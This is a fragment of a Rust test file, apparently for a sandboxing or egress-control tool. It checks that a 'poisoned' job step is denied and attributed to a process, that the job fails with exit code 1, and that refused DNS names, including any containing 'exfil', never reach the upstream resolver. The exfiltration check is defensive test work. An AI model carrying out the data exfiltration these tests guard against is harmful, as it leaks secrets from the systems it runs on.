                        || proc_.and_then(|p| p.pid).is_none()
                        || proc_.and_then(|p| p.comm.as_deref()) != Some(p.comm)
                    {
                        self.failures.push(format!(
                            "poisoned {}: expected {} by {} with a pid, got: {}",
                            p.what,
                            p.reason,
                            p.comm,
                            describe(std::slice::from_ref(r))
                        ));
                    }
                }
            }
        }
        if ended.status.code() != Some(1) {
            self.failures.push(format!(
                "job end --fail-on-deny after the poisoned step exited {:?}, not 1",
                ended.status.code()
            ));
        }
        let leaked: Vec<String> = world
            .upstream_queries()
            .into_iter()
            .filter(|q| q.contains("exfil") || q == OTHER.name)
            .collect();
        if !leaked.is_empty() {
            self.failures.push(format!(
                "refused names reached the upstream DNS: {leaked:?}"
            ));
        }
        let status = self.boot.terminate();
        assert!(
            self.failures.is_empty(),
            "{}:\n\n{}\n\nall records of the poisoned job:\n{}",
            self.job,
            self.failures.join("\n\n"),
            describe(&recs)
        );
        assert!(status.success(), "{}", self.boot.log());
    }
}

/// The world stays inside this module's address block (others use the rest).
#[test]
fn the_world_stays_in_its_address_block() {
    let block = u32::from("198.51.100.64".parse::<Ipv4Addr>().unwrap());
    for a in SITES.iter().map(|s| s.v4).chain([HOST4, RESOLVER4]) {
        let a: Ipv4Addr = a.parse().unwrap();
        assert_eq!(u32::from(a) & !31, block, "{a} is outside 198.51.100.64/27");
    }
    for a in SITES.iter().map(|s| s.v6).chain([HOST6]) {
        let a: Ipv6Addr = a.parse().unwrap();
        assert_eq!(a.segments()[..4], [0x2001, 0xdb8, 7, 0], "{a}");
    }
    let _: IpAddr = RESOLVER4.parse().unwrap();
}
